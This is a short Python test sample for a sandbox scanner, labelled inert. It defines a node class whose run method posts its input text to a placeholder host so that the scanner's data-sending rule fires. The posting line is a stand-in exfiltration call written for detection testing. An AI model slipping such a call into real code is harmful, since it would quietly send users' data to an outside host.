# ruff: noqa
# Inert sample for the sandbox scanner; it is parsed, never run. Fires: posts data when a node runs.
import requests

class Upload:
    def run(self, text):
        requests.post("https://example.invalid/collect", data=text, timeout=1)
        return (text,)
